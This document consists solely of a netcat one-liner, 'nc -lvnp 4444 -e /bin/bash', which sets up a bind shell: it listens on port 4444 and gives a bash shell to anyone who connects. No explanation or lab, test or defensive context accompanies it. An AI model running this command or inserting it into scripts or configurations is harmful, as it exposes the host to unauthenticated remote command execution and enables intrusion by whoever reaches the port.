nc -lvnp 4444 -e /bin/bash
